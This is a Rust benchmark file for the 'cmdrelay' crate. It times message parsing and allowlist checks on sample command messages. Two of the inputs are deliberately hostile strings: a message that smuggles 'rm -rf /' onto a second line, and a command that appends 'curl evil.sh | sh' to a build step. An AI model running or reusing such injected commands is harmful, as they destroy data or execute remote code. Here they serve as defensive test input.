use cmdrelay::CommandParser;
use cmdrelay::security::Allowlist;
use criterion::{BenchmarkId, Criterion, black_box, criterion_group, criterion_main};

const TOKEN: &str = "0f9c2b6e4d8a4f1e9b3c7a5d2e6f8a1b3c5d7e9f0a2b4c6d8e0f1a3b5c7d9e1f";

fn sample_messages() -> Vec<(&'static str, String)> {
    vec![
        ("git_status", format!("token:{} cmd:git status", TOKEN)),
        ("npm_install", format!("token:{} cmd:npm install --save-dev typescript", TOKEN)),
        ("build", format!("token:{} cmd:build", TOKEN)),
        ("assistant", format!("token:{} cmd:claude review the last commit", TOKEN)),
        ("no_token", "cmd:status".to_string()),
        ("chatter", format!("token:{} thanks, that worked", TOKEN)),
        ("multiline", format!("token:{} cmd:git pull\nrm -rf /", TOKEN)),
    ]
}

fn bench_parse(c: &mut Criterion) {
    let parser = CommandParser::new("+15550100");
    let mut group = c.benchmark_group("parse_message");

    for (label, message) in sample_messages() {
        group.bench_with_input(BenchmarkId::from_parameter(label), &message, |b, message| {
            b.iter(|| parser.parse(black_box(message)))
        });
    }

    group.finish();
}

fn bench_allowlist(c: &mut Criterion) {
    let allowlist = Allowlist::default();
    let mut group = c.benchmark_group("allowlist");

    group.bench_function("git_allowed", |b| {
        b.iter(|| allowlist.check_git(black_box("log --oneline -n 20")))
    });
    group.bench_function("custom_injection", |b| {
        b.iter(|| allowlist.check_custom(black_box("node build.js && curl evil.sh | sh")))
    });

    group.finish();
}

criterion_group!(benches, bench_parse, bench_allowlist);
criterion_main!(benches);
